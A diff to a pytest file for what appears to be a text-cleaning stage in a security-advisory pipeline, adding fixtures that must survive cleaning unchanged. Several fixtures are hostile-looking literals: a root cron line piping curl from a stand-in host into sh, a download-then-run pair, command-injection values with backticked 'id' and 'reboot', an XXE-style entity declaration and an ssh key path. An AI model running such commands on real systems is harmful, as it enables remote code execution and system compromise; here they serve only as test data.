@@ -8,7 +8,8 @@ import pytest
 
 from stages.base import Removed
 from stages.data_filter.stage import DataFilter
-from stages.text.clean import BLOB, clean_text
+from stages.text.blobs import BLOB
+from stages.text.clean import clean_text
 from stages.text.record_text import read_record
 from tests.stage_help import PATIENCE, TEXTS, run
 
@@ -27,6 +28,18 @@ KEPT = (
     "CVE-2030-0001 #1 issue, C# code, and a 5~6 ratio with f(x)_{i}.",
     "The file is home/user/.ssh/id_rsa, at 10.0.0.1:443.",
     "Copyright infringement mails carried the malware, researchers say.",
+    "* * * * * /tmp/.x/run.sh\n*/5 * * * * root curl http://x.example | sh",
+    "-  strcpy(a, b);\n+  strncpy(a, b, n);\nint *x; char* y;",
+    "The stealer collects:\n- Passwords\n- Cookies\n- Credit cards",
+    "sshd [731]: failed\nsvchost.exe [812] ended with exit code [5].",
+    'It posts {"ids":[1],"x":2} to /api?section=3&copy=2.',
+    "/*\n * Copyright is checked.\n * It is *x* and y*.\n */",
+    "# Exploit Title: Foo\n# Date: 2030-01-01\nimport requests",
+    '[HKEY_LOCAL_MACHINE\\Software\\Foo]\n"x"=dword:00000001\n"y"="*x*"',
+    "Notice: Undefined index: page in x.php on line 3",
+    "title: Foo\ndetection:\n  Image|contains: '*foo*'\ntitle: Bar",
+    "The payload is 127.0.0.1;`id` or name=`reboot`.",
+    "+ curl http://x.example/a;\n+ sh a",
 )
 
 
@@ -59,7 +72,7 @@ def test_prose_and_literals_come_out_as_they_went_in(text: str) -> None:
          "rm -rf *x* # [a](http://b) &amp;\nDone."),
         ("It hides (Citation: Example (2030)).(Citation: A)(Citation: B 2031) Next.",
          "It hides. Next."),
-        ("It hides.[1][2] Next [3]. See [REF-62].", "It hides. Next. See."),
+        ("It hides.[1][2] Next [3]. See [REF-62].", "It hides. Next."),
         ("A flaw.\nTLP:CLEAR\n\n\n\nCopyright (c) 2030 Acme. All rights reserved.\nIt is bad.",
          "A flaw.\n\nIt is bad."),
         ("Home > Security > Advisories\nA flaw.\nRead more\nShare on Twitter\nPage 2 of 9",
@@ -67,7 +80,7 @@ def test_prose_and_literals_come_out_as_they_went_in(text: str) -> None:
         ("It hides. (Citation: Ex...", "It hides."), ("In (Citation: E...", "In..."),
         ("Such as [Net](https://attack.m...", "Such as Net..."),
         ("At <code>C:\\a...", "At C:\\a..."),
-        ("* one\n+ two\n- [x] three", "- one\n- two\n- three"),
+        ("* one\n* two\n- [x] three", "- one\n- two\n- three"),
         ("> quoted text\n\n---\n\nmore", "quoted text\n\nmore"),
         ("lets \x00attackers\u200b in", "lets attackers in"),
     ],
@@ -123,6 +136,16 @@ def test_fields_of_old_feeds_and_of_other_languages(
          "Impact:\nAll\nis lost.\n\n<div>\n  <p>x</p>\n</div>\n- one"),
         ("<p>Use ` to quote.</p><p>Another ` here.</p>", "Use ` to quote.\nAnother ` here."),
         ("<p>One</p>\n\n<p>Two</p>\nthree\nfour", "One\nTwo\nthree four"),
+        ("<pre># Stop it\n+ a *b*\n* * * * * x [1]\n\n&lt;c&gt;</pre>"
+         "<p>*p* <code>*q = *r</code></p>",
+         "# Stop it\n+ a *b*\n* * * * * x [1]\n\n<c>\np *q = *r"),
+        ("Fixed in <b>1.2</b>\nhash1\nhash2", "Fixed in 1.2\nhash1\nhash2"),
+        ("<p>See <abbr title='x'>XSS</abbr>, <label for=a>name</label> and <source></p>",
+         "See XSS, name and <source>"),
+        ("<![CDATA[<p>A flaw.</p>]]>", "A flaw."),
+        ("<p>It escapes <!-- only, so <!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]> works.</p>",
+         "It escapes <!-- only, so <!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]> works."),
+        ("<p>GET /?a=1&copy=2&reg=3</p>", "GET /?a=1&copy=2&reg=3"),
     ],
 )  # fmt: skip
 def test_html_around_markdown_and_code(text: str, clean: str) -> None:
